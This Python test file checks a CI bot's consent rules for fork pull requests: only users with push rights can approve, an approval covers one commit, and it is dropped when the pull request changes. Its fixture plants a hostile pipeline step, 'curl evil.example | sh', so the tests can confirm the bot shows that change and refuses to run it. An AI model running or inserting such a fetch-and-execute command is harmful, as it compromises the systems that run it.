"""Consent: a stranger's commit runs once somebody who may push let it, that commit alone, and only as it was shown."""

from __future__ import annotations

import dataclasses
from dataclasses import dataclass
from typing import Any

import pytest

from bot import clock, errors, trust
from bot.builds import commands
from bot.checks import render
from bot.model import approval, audit, build, delivery, job
from bot.policy import Policy
from bot.simulator import CheckRun, PullRequest, Repository
from bot.store import approvals, builds, checks, deliveries, jobs
from bot.store import audit as entries
from tests import factories
from tests.databases import long_on_postgresql
from tests.events.conftest import PIPELINE, House

pytestmark = long_on_postgresql

SHOWN = """\
on: pull_request
jobs:
  lint: {steps: [{run: a}]}
  test: {steps: [{run: b}]}
"""


@dataclass
class Visit:
    """A stranger's pull request from a fork, as it was heard of."""

    house: House
    repository: Repository
    fork: Repository
    pull: PullRequest

    async def push(self, text: str, *, author: str = "stranger", force: bool = False) -> str:
        """Push to the pull request and hear of it."""
        head = await self.house.simulator.push(self.fork, "topic", {"a.txt": text}, author=author, force=force)
        await self.house.deliver(self.house.sent("pull_request", "synchronize"))
        return head

    async def shown(self) -> CheckRun:
        """The newest build's own check run, shown as the reporter would."""
        made = (await self.house.builds())[0]
        (one,) = await self.house.store.read(checks.list_of_build, made.id)
        run = render.check_run(one, build=made, jobs=[], job=None, log_tail=None, details_url="https://b.example/1")
        body = {
            "name": run.name,
            "head_sha": run.head_sha,
            "external_id": run.external_id,
            "status": run.status,
            "conclusion": run.conclusion,
            "output": {"title": run.title, "summary": run.summary},
            "actions": [
                {"label": one.label, "description": one.description, "identifier": one.identifier}
                for one in run.actions
            ],
        }
        commit = await self.house.simulator.git_of(self.fork).commit(one.head_sha)
        made_run = self.house.simulator.create_check_run(self.repository, commit, body, app=self.house.simulator.app)
        await self.house.store.write(
            checks.acknowledge,
            one,
            version=one.desired_version,
            github_id=made_run.id,
            status="completed",
            now=clock.now(),
        )
        return made_run

    async def press(self, run: CheckRun, *, sender: str = "octo", identifier: str = "approve") -> delivery.Delivery:
        """Press the button of a check run."""
        self.house.simulator.press_action(run, identifier, sender=sender)
        return await self.house.deliver(self.house.sent("check_run", "requested_action"))

    async def newest(self) -> tuple[build.Build, list[job.Job]]:
        """The newest build and its jobs."""
        made = (await self.house.builds())[0]
        return made, await self.house.store.read(jobs.list_of_builds, [made.id])

    async def given(self) -> list[approval.Approval]:
        """All consent to the pull request."""
        return await self.house.store.read(
            approvals.list_of_pull, repository_id=self.repository.id, pull_number=self.pull.number
        )


@pytest.fixture
async def visit(house: House) -> Visit:
    """A fork's pull request that waits."""
    repository = await house.simulator.create_repository("octo/hello", files={".buildhook.yml": SHOWN})
    fork = await house.simulator.fork(repository, "stranger")
    hostile = SHOWN.replace("run: a", "run: curl evil.example | sh")
    await house.simulator.commit(fork, "topic", {".buildhook.yml": hostile})
    pull = await house.simulator.open_pull_request(repository, "topic", from_fork=fork, author="stranger")
    await house.deliver(house.sent("pull_request", "opened"))
    return Visit(house, repository, fork, pull)


async def test_t21_t31_a_strangers_pull_request_waits_and_shows_what_would_run_and_what_it_changes(
    visit: Visit,
) -> None:
    made, own = await visit.newest()
    assert (made.state, made.trust, own) == (build.State.WAITING, build.Trust.UNTRUSTED, [])
    run = await visit.shown()
    assert run.conclusion == "action_required"
    assert [action["identifier"] for action in run.actions] == ["approve"]
    assert "- `lint`\n- `test`" in (run.summary or "")
    assert "-  lint: {steps: [{run: a}]}\n+  lint: {steps: [{run: curl evil.example | sh}]}" in (run.summary or "")
    assert f"/ok-to-test {visit.pull.head_sha}" in (run.summary or "")


async def test_t31_the_button_lets_the_commit_run_with_the_bases_file(visit: Visit) -> None:
    done = await visit.press(await visit.shown())
    made, own = await visit.newest()
    assert (made.head_sha, made.generation, made.trust) == (visit.pull.head_sha, 2, build.Trust.UNTRUSTED)
    assert [one.plan.steps[0].run for one in own] == ["a", "b"]
    assert {one.state for one in own} == {job.State.QUEUED}
    assert "let" in (done.reason or "")
    (given,) = await visit.given()
    assert (given.head_sha, given.digest, given.approver, given.via) == (
        made.head_sha,
        made.plan_digest,
        "octo",
        "button",
    )
    assert given.approver_id == visit.house.simulator.user("octo").id
    assert given.dropped_at is None


async def test_t10_a_replayed_press_starts_nothing(visit: Visit) -> None:
    run = await visit.shown()
    await visit.press(run)
    await visit.house.deliver(visit.house.sent("check_run", "requested_action"), guid="again")
    assert len(await visit.house.builds()) == 2


@pytest.mark.parametrize("level", ["read", "triage", None])
async def test_t30_t37_whoever_may_not_push_is_refused_and_told(visit: Visit, level: str | None) -> None:
    if level is not None:
        visit.house.simulator.set_permission(visit.repository, "eve", level)
    run = await visit.shown()
    done = await visit.press(run, sender="eve")
    made, _ = await visit.newest()
    assert made.state == build.State.WAITING
    assert "only somebody who may push" in (done.reason or "")
    assert made.proposal is not None
    assert "eve" in (made.proposal.remark or "")
    assert "**Refused:**" in ((await visit.shown()).summary or "")


async def test_t28_a_permission_that_was_taken_away_before_the_press_is_handled_counts(visit: Visit) -> None:
    visit.house.simulator.set_permission(visit.repository, "mallory", "write")
    run = await visit.shown()
    visit.house.simulator.press_action(run, "approve", sender="mallory")
    visit.house.simulator.set_permission(visit.repository, "mallory", "read")
    await visit.house.deliver(visit.house.sent("check_run", "requested_action"))
    assert (await visit.newest())[0].state == build.State.WAITING


async def test_t22_a_push_that_is_not_heard_of_yet_keeps_the_old_commit_from_running(visit: Visit) -> None:
    run = await visit.shown()
    await visit.house.simulator.push(visit.fork, "topic", {"a.txt": "evil"}, author="stranger")
    done = await visit.press(run)
    assert "stands at" in (done.reason or "")
    assert {one.state for one in await visit.house.builds()} == {build.State.WAITING}


async def test_t22_an_approval_is_for_one_commit_and_a_newer_push_drops_it(visit: Visit) -> None:
    await visit.press(await visit.shown())
    await visit.push("more")
    made, own = await visit.newest()
    assert (made.state, own) == (build.State.WAITING, [])
    (given,) = await visit.given()
    assert given.dropped_reason == "The head changed."
    (cancelled,) = {one.id for one in await visit.house.builds() if one.generation == 2}
    wishes = await visit.house.store.read(jobs.list_of_builds, [cancelled])
    assert all(one.cancel_requested_at is not None for one in wishes)


async def test_t29_the_first_head_that_comes_back_by_force_waits_again(visit: Visit) -> None:
    await visit.press(await visit.shown())
    first = visit.pull.head_sha
    await visit.push("other")
    await visit.house.simulator.push(visit.fork, "topic", {}, start=first, force=True, author="stranger")
    await visit.house.deliver(visit.house.sent("pull_request", "synchronize"))
    made, own = await visit.newest()
    assert (made.head_sha, made.state, own) == (visit.pull.head_sha, build.State.WAITING, [])


async def _retarget(visit: Visit) -> Any:
    await visit.house.simulator.commit(visit.repository, "stable", {"s.txt": "s"})
    await visit.house.simulator.retarget(visit.pull, "stable")
    return visit.house.sent("pull_request", "edited")


async def _close(visit: Visit) -> Any:
    await visit.house.simulator.close(visit.pull)
    return visit.house.sent("pull_request", "closed")


async def _draft(visit: Visit) -> Any:
    await visit.house.simulator.convert_to_draft(visit.pull)
    return visit.house.sent("pull_request", "converted_to_draft")


@pytest.mark.parametrize("change", [_retarget, _close, _draft], ids=["another base", "closed", "a draft"])
async def test_t29_whatever_changes_about_the_pull_request_ends_the_consent(visit: Visit, change: Any) -> None:
    await visit.press(await visit.shown())
    running, _ = await visit.newest()
    sent = await change(visit)
    await visit.house.deliver(sent)
    (given,) = await visit.given()
    assert given.dropped_at is not None
    wishes = await visit.house.store.read(jobs.list_of_builds, [running.id])
    assert all(one.cancel_requested_at is not None for one in wishes)
    assert not [one for one in await visit.house.builds() if one.state == build.State.QUEUED and one.id != running.id]


async def test_t38_a_re_run_needs_consent_that_still_holds(visit: Visit) -> None:
    visit.house.simulator.set_permission(visit.repository, "mallory", "write")
    await visit.press(await visit.shown(), sender="mallory")
    ended = await visit.house.end_build(build.State.FAILED, job.State.FAILED)
    run = await _aggregate(visit, ended)
    visit.house.simulator.set_permission(visit.repository, "mallory", "read")
    visit.house.simulator.rerequest_check_run(visit.repository, run.id, sender="octo")
    done = await visit.house.deliver(visit.house.sent("check_run", "rerequested"))
    assert "may not push any more" in (done.reason or "")
    visit.house.simulator.set_permission(visit.repository, "mallory", "write")
    visit.house.simulator.rerequest_check_run(visit.repository, run.id, sender="octo")
    await visit.house.deliver(visit.house.sent("check_run", "rerequested"))
    made, own = await visit.newest()
    assert (made.generation, made.trust, len(own)) == (3, build.Trust.UNTRUSTED, 2)


async def _aggregate(visit: Visit, of: build.Build) -> CheckRun:
    for one in await visit.house.store.read(checks.list_of_build, of.id):
        if one.job_id is None:
            body = {"name": one.name, "head_sha": one.head_sha, "status": "completed", "conclusion": "failure"}
            commit = await visit.house.simulator.git_of(visit.fork).commit(one.head_sha)
            run = visit.house.simulator.create_check_run(visit.repository, commit, body, app=visit.house.simulator.app)
            await visit.house.store.write(
                checks.acknowledge, one, version=1, github_id=run.id, status="completed", now=clock.now()
            )
            return run
    raise AssertionError("there is no check of the whole build")


async def test_t24_a_check_run_of_another_commit_is_none_of_ours(visit: Visit) -> None:
    run = await visit.shown()
    other = await visit.house.simulator.git_of(visit.repository).commit(visit.repository.heads["main"])
    body: dict[str, Any] = {"name": "buildhook", "head_sha": other.sha, "status": "completed"}
    body |= {"conclusion": "action_required", "actions": list(run.actions)}
    foreign = visit.house.simulator.create_check_run(visit.repository, other, body, app=visit.house.simulator.app)
    done = await visit.press(foreign)
    assert done.state == delivery.State.IGNORED
    assert (await visit.newest())[0].state == build.State.WAITING


async def test_a_base_without_a_file_leaves_nothing_to_approve(house: House) -> None:
    repository = await house.simulator.create_repository("octo/bare", files={"a": "a"})
    fork = await house.simulator.fork(repository, "stranger")
    await house.simulator.commit(fork, "topic", PIPELINE)
    await house.simulator.open_pull_request(repository, "topic", from_fork=fork, author="stranger")
    await house.deliver(house.sent("pull_request", "opened"))
    (made,) = await house.builds()
    assert made.state == build.State.WAITING
    assert made.proposal is not None
    assert made.proposal.jobs == ()
    assert "nothing will run then either" in (made.reason or "")


async def test_t121_a_head_that_no_branch_of_the_repository_stands_at_waits(house: House) -> None:
    repository = await house.simulator.create_repository("octo/hello", files=PIPELINE)
    await house.simulator.commit(repository, "topic", {"a.txt": "a"})
    await house.simulator.open_pull_request(repository, "topic")
    sent = house.sent("pull_request", "opened")
    await house.simulator.push(repository, "topic", {"a.txt": "b"})
    await house.deliver(sent)
    made = await house.store.read(builds.list_newest, limit=9)
    assert {one.state for one in made} <= {build.State.WAITING}


@pytest.mark.parametrize(("level", "runs"), [("write", True), ("triage", False)])
async def test_t30_a_label_consents_where_the_policy_says_so_and_whoever_set_it_may_push(
    visit: Visit, level: str, runs: bool
) -> None:
    visit.house.policy = Policy(trust=trust.Policy(label="ok-to-test"))
    visit.house.simulator.set_permission(visit.repository, "mallory", level)
    await visit.house.simulator.label(visit.pull, "ok-to-test", sender="mallory")
    await visit.house.deliver(visit.house.sent("pull_request", "labeled"))
    made, _ = await visit.newest()
    assert (made.state == build.State.QUEUED) == runs


async def test_a_label_means_nothing_where_the_policy_names_none(visit: Visit) -> None:
    await visit.house.simulator.label(visit.pull, "ok-to-test", sender="octo")
    done = await visit.house.deliver(visit.house.sent("pull_request", "labeled"))
    assert done.state == delivery.State.IGNORED
    assert (await visit.newest())[0].state == build.State.WAITING


async def test_t22_a_label_that_was_set_at_an_older_head_lets_no_newer_one_run(visit: Visit) -> None:
    visit.house.policy = Policy(trust=trust.Policy(label="ok-to-test"))
    await visit.house.simulator.label(visit.pull, "ok-to-test", sender="octo")
    sent = visit.house.sent("pull_request", "labeled")
    await visit.push("evil")
    await visit.house.deliver(sent)
    assert not [one for one in await visit.house.builds() if one.state == build.State.QUEUED]


async def test_t122_a_bot_that_the_policy_names_runs_until_somebody_else_pushes_to_its_branch(house: House) -> None:
    repository = await house.simulator.create_repository("octo/hello", files=PIPELINE)
    bot_id = house.simulator.user("renovate[bot]").id
    house.policy = Policy(trust=trust.Policy(bots=frozenset({bot_id})))
    await house.simulator.push(repository, "update", {"a.txt": "a"}, author="renovate[bot]")
    await house.simulator.open_pull_request(repository, "update", author="renovate[bot]")
    await house.deliver(house.sent("pull_request", "opened"))
    assert (await house.builds())[0].trust == build.Trust.TRUSTED
    await house.simulator.push(repository, "update", {"a.txt": "b"}, author="mona")
    await house.deliver(house.sent("pull_request", "synchronize"))
    assert (await house.builds())[0].state == build.State.WAITING
    await house.simulator.push(repository, "update", {"a.txt": "c"}, author="renovate[bot]")
    await house.deliver(house.sent("pull_request", "synchronize"))
    assert (await house.builds())[0].state == build.State.WAITING


async def test_t22_t38_a_comment_consents_to_the_whole_id_and_a_later_retest_needs_consent_that_holds(
    visit: Visit,
) -> None:
    github, house = visit.house.simulator, visit.house
    github.set_permission(visit.repository, "mallory", "write")

    async def say(body: str, author: str) -> None:
        github.comment(visit.pull, body, author=author)
        await house.deliver(house.sent("issue_comment", "created"))

    await say(f"/ok-to-test {visit.pull.head_sha[:12]}", "mallory")
    assert (await visit.newest())[0].state == build.State.WAITING
    await say(f"/ok-to-test {visit.pull.head_sha}", "mallory")
    made, own = await visit.newest()
    assert (made.trust, len(own)) == (build.Trust.UNTRUSTED, 2)
    (given,) = await visit.given()
    assert (given.approver, given.via) == ("mallory", "comment")
    await house.end_build(build.State.FAILED, job.State.FAILED)
    github.set_permission(visit.repository, "mallory", "read")
    await say("/retest", "octo")
    assert (await visit.newest())[0].id == made.id
    github.set_permission(visit.repository, "mallory", "write")
    await say("/retest", "octo")
    assert (await visit.newest())[0].generation == made.generation + 1


async def let(visit: Visit, *, login: str = "octo", **changes: str) -> delivery.Delivery:
    """Let the waiting build run on its page; gives what became of it."""
    made, _ = await visit.newest()
    assert made.proposal is not None
    seen = commands.Seen(**{"head_sha": made.head_sha, "digest": made.proposal.digest, **changes})
    person = visit.house.simulator.user(login)
    by = audit.Actor(via=audit.Via.PAGE, id=person.id, name=login)
    guid = await visit.house.store.write(
        commands.consent, made.id, seen=seen, new_id=visit.house.new_id, now=visit.house.now(), by=by
    )
    await visit.house.dispatch()
    found = await visit.house.store.read(deliveries.find, guid)
    assert found is not None
    return found


async def test_t31_the_page_lets_the_commit_run_as_the_button_does(visit: Visit) -> None:
    done = await let(visit)
    made, own = await visit.newest()
    assert (made.head_sha, made.generation, made.trust) == (visit.pull.head_sha, 2, build.Trust.UNTRUSTED)
    assert [one.plan.steps[0].run for one in own] == ["a", "b"]
    assert f"let {made.head_sha} run" in (done.reason or "")
    (given,) = await visit.given()
    assert (given.approver, given.via, given.delivery_id) == ("octo", "page", done.id)
    (entry,) = await visit.house.store.read(entries.list_newest, limit=9)
    assert (entry.action, entry.via, entry.actor_id) == ("approve", "page", given.approver_id)


async def test_t31_the_page_lets_nothing_run_but_what_was_shown(visit: Visit) -> None:
    for changes in ({"head_sha": "f" * 40}, {"digest": "0" * 64}, {"head_sha": ""}):
        with pytest.raises(errors.Conflict, match="not what was shown"):
            await let(visit, **changes)
    made, _ = await visit.newest()
    assert made.proposal is not None
    seen = commands.Seen(head_sha=made.head_sha, digest=made.proposal.digest)
    with pytest.raises(errors.Conflict, match="sign in"):
        await visit.house.store.write(
            commands.consent, made.id, seen=seen, new_id=visit.house.new_id, now=visit.house.now(), by=factories.ACTOR
        )
    assert len(await visit.house.builds()) == 1


async def test_t31_the_page_asks_github_again_who_may(visit: Visit) -> None:
    visit.house.simulator.create_user("reader")
    visit.house.simulator.set_permission(visit.repository, "reader", "read")
    done = await let(visit, login="reader")
    assert "only somebody who may push" in (done.reason or "")
    made, _ = await visit.newest()
    assert made.state == build.State.WAITING
    assert made.proposal is not None
    assert "only somebody who may push" in (made.proposal.remark or "")
    assert await visit.given() == []


async def test_t31_a_push_that_came_meanwhile_leaves_the_consent_of_the_page_without_effect(visit: Visit) -> None:
    made, _ = await visit.newest()
    await visit.house.simulator.push(visit.fork, "topic", {"a.txt": "b"}, author="stranger")
    done = await let(visit)
    assert "stands at" in (done.reason or "")
    assert [one.id for one in await visit.house.builds()] == [made.id]


async def test_what_github_sends_under_our_events_name_is_nobodys_consent(visit: Visit) -> None:
    sent = visit.house.sent("pull_request", "opened")
    headers = {**sent.headers, "X-GitHub-Event": "consent"}
    done = await visit.house.deliver(dataclasses.replace(sent, headers=headers), guid="theirs")
    assert done.state == delivery.State.IGNORED
    assert "not of our making" in (done.reason or "")
